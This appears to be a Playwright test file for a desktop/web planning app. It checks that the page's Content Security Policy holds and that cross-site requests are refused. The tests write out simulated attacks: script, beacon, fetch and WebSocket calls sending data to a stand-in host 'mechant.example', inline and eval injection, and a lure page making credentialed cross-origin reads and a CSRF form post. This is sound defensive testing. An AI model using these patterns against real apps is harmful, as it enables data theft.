/**
 * The page's policy in a real Chromium: the whole app works under it, on loopback and under the one of
 * `app://`, and what a page that was broken into would try is refused.
 */
import type { BrowserContext, Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pagePolicy } from '../../electron/static-files.ts';
import { must } from '../../domain/result.ts';
import { othersMay } from '../support/file-modes.ts';
import { expect, test, type RunningApp } from './app.ts';

/** Every refusal of the policy, in the page and in its frames, as "directive blocked". */
async function watchPolicy(page: Page): Promise<readonly string[]> {
  const refused: string[] = [];
  await page.exposeFunction('tellRefusal', (refusal: string) => void refused.push(refusal));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell = (window as unknown as Record<string, (text: string) => void>)['tellRefusal'];
      tell?.(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return refused;
}

/** Serves the page as Electron does: the policy of `app://`, and a bridge in place of the network. */
async function asInElectron(context: BrowserContext, page: Page, app: RunningApp): Promise<void> {
  const { origin } = new URL(app.url);
  const [cookie] = await context.cookies();
  const { name, value } = must(cookie, 'the door gives a cookie');
  await page.exposeFunction('askHost', async (channel: string, input: unknown) => {
    const response = await fetch(`${origin}/ask/${channel}`, {
      method: 'POST',
      headers: { cookie: `${name}=${value}`, origin, 'content-type': 'application/json' },
      body: JSON.stringify(input),
    });
    return response.json();
  });
  await page.addInitScript(() => {
    if (window.parent !== window) return;
    const host = window as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>;
    Object.assign(window, {
      bridge: {
        ask: (channel: string, input: unknown) => host['askHost']?.(channel, input),
        onChanged: () => () => {},
      },
    });
  });
  await page.route(`${origin}/?electron`, async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    const nonce = must(
      /name="style-nonce" nonce="([^"]+)"/.exec(body)?.[1],
      'the page has a number',
    );
    const headers = { ...response.headers(), 'content-security-policy': pagePolicy('app', nonce) };
    await route.fulfill({ response, body, headers });
  });
}

async function openExample(page: Page, app: RunningApp): Promise<void> {
  await page.goto(app.url);
  await page.getByRole('radio', { name: 'Un secteur' }).check();
  await page.getByRole('button', { name: 'Ouvrir l’exemple' }).click();
  await expect(page.getByRole('heading', { name: /À pourvoir/ })).toBeVisible();
}

/** Every screen of the head, a drawer, a list that opens, and the sheets in their frame. */
async function walkApp(page: Page): Promise<void> {
  await expect(page.getByRole('heading', { name: /À pourvoir/ })).toBeVisible();
  const tabs = page.getByRole('navigation').first().getByRole('link');
  const count = await tabs.count();
  expect(count).toBeGreaterThan(4);
  for (let at = 0; at < count; at += 1) {
    await tabs.nth(at).click();
    await expect(page.locator('main').first()).toBeVisible();
  }
  for (const place of ['personnes/nouveau', 'priorites', 'reglages', 'reglages/acces', 'import']) {
    await page.evaluate((hash) => (window.location.hash = `#/${hash}`), place);
    await expect(page.locator('main').first()).toBeVisible();
  }
  await page.evaluate(() => (window.location.hash = '#/agents/nouveau'));
  await expect(page.getByRole('textbox', { name: 'Nom', exact: true })).toBeVisible();
}

async function printPreview(page: Page): Promise<void> {
  await page.getByRole('link', { name: 'Impressions' }).click();
  const sheets = page.frameLocator('iframe[title="Aperçu des feuilles"]');
  await expect(sheets.locator('[data-paper="ready"]')).toBeVisible({ timeout: 60_000 });
}

test('the app runs under the policy of loopback', async ({ app, page }) => {
  const refused = await watchPolicy(page);
  await openExample(page, app);
  await walkApp(page);
  await printPreview(page);
  expect(refused).toEqual([]);
});

test('the app runs under the policy of app://, without any network of its own', async ({
  app,
  context,
  page,
}) => {
  await openExample(page, app);
  await asInElectron(context, page, app);
  const refused = await watchPolicy(page);
  await page.goto(`${new URL(app.url).origin}/?electron`);
  await walkApp(page);
  await printPreview(page);
  expect(refused).toEqual([]);
  const asked = await page.evaluate(() =>
    fetch('/ask/app.status', { method: 'POST', body: '{}' }).then(
      () => 'answered',
      () => 'refused',
    ),
  );
  expect(asked).toBe('refused');
  await expect.poll(() => refused.map((one) => one.split(' ')[0])).toEqual(['connect-src']);
});

test('a page that was broken into can load, run, send and show nothing else', async ({
  app,
  page,
}) => {
  const refused = await watchPolicy(page);
  await page.goto(app.url);
  await expect(page.getByRole('radio', { name: 'Un secteur' })).toBeVisible();
  await page.evaluate(() => {
    const add = (tag: string, more: Readonly<Record<string, string>>): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(more)) element.setAttribute(name, value);
      if (tag === 'style') element.textContent = 'body { display: none }';
      document.body.append(element);
    };
    const elsewhere = 'https://mechant.example';
    add('script', { src: `${elsewhere}/x.js` });
    add('script', { src: 'data:text/javascript,globalThis.broken=1' });
    add('img', { src: `${elsewhere}/?vol=nom` });
    add('link', { rel: 'stylesheet', href: `${elsewhere}/x.css` });
    add('iframe', { src: elsewhere });
    add('object', { data: `${elsewhere}/x.swf` });
    add('video', { src: `${elsewhere}/x.mp4` });
    add('div', { style: 'display: none' });
    add('style', {});
    add('base', { href: elsewhere });
    const form = document.createElement('form');
    form.action = elsewhere;
    document.body.append(form);
    form.submit();
    document.body.insertAdjacentHTML('beforeend', '<img src="#" onerror="globalThis.broken=1">');
    fetch(elsewhere).catch(() => {});
    navigator.sendBeacon(elsewhere, 'nom');
    new WebSocket('wss://mechant.example').addEventListener('error', () => {});
    new Worker(URL.createObjectURL(new Blob(['']))).addEventListener('error', () => {});
    // Later, for what the debugger itself runs may do this.
    setTimeout(() => {
      // oxlint-disable-next-line typescript/no-implied-eval, no-new-func -- the attack itself
      new Function('globalThis.broken = 1')();
    });
  });
  const tried = [
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'object-src',
    'script-src',
    'script-src-attr',
    'script-src-elem',
    'style-src-attr',
    'style-src-elem',
    'worker-src',
  ];
  await expect
    .poll(() => [...new Set(refused.map((one) => one.split(' ')[0] ?? ''))].sort())
    .toEqual(tried);
  expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe('block');
});

test('what the built host leaves on the disk is for the account alone', async ({ app, page }) => {
  await openExample(page, app);
  await app.stop();
  const { files, open } = othersMay(app.folder);
  expect(files).toContain('planning.db');
  expect(open).toEqual([]);
});

test('a page of another port reads nothing, frames nothing and has nothing done', async ({
  app,
  page,
}) => {
  await openExample(page, app);
  const { origin } = new URL(app.url);
  const attacker = await serveAttack();
  const thief = await page.context().newPage();
  try {
    // Same machine and same browser: 127.0.0.1 on another port is the same site, so the cookie goes along.
    await thief.goto(`http://127.0.0.1:${attacker.port}/`);
    let tried = 0;
    thief.on('request', (request) => (tried += request.url().startsWith(origin) ? 1 : 0));
    const sent: { readonly url: string; readonly status: number }[] = [];
    thief.on('response', (response) => {
      if (response.url().startsWith(origin)) {
        sent.push({ url: response.url(), status: response.status() });
      }
    });
    const loot = await thief.evaluate(async (target) => {
      const body = '{}';
      const tries: readonly (readonly [string, RequestInit])[] = [
        ['/ask/caregiver.list', { method: 'POST', body, credentials: 'include' }],
        ['/ask/caregiver.list', { method: 'POST', body, credentials: 'include', mode: 'no-cors' }],
        [
          '/ask/caregiver.list',
          {
            method: 'POST',
            body,
            credentials: 'include',
            headers: { 'content-type': 'application/json' },
          },
        ],
        ['/', { credentials: 'include' }],
        ['/', { credentials: 'include', mode: 'no-cors' }],
        ['/events', { credentials: 'include' }],
      ];
      const read: string[] = [];
      for (const [path, init] of tries) {
        const text = await fetch(`${target}${path}`, init).then(
          (response) => response.text(),
          () => '',
        );
        if (text !== '') read.push(text);
      }
      return read;
    }, origin);
    expect(loot).toEqual([]);
    const framed = await thief.evaluate(
      (target) =>
        new Promise<string>((resolve) => {
          const frame = document.createElement('iframe');
          frame.addEventListener('load', () => {
            try {
              resolve(frame.contentDocument?.body.textContent ?? 'nothing');
            } catch {
              resolve('refused');
            }
          });
          frame.src = target;
          document.body.append(frame);
        }),
      origin,
    );
    expect(['nothing', 'refused']).toContain(framed);
    // A form is what needs no script: it reaches the host and is turned away there.
    await thief.evaluate((target) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.enctype = 'text/plain';
      form.action = `${target}/ask/service.createExample`;
      document.body.append(form);
      form.submit();
    }, origin);
    await thief.waitForURL(`${origin}/ask/service.createExample`);
    expect(tried).toBeGreaterThanOrEqual(8);
    expect(sent.length).toBeGreaterThan(0);
    expect(sent.filter(({ status }) => status < 400)).toEqual([]);
  } finally {
    await new Promise((resolve) => attacker.server.close(resolve));
    await thief.close();
  }
});

async function serveAttack(): Promise<{ server: Server; port: number }> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
    response.end('<!doctype html><title>Concours</title><body>Gagnez un voyage</body>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port };
}
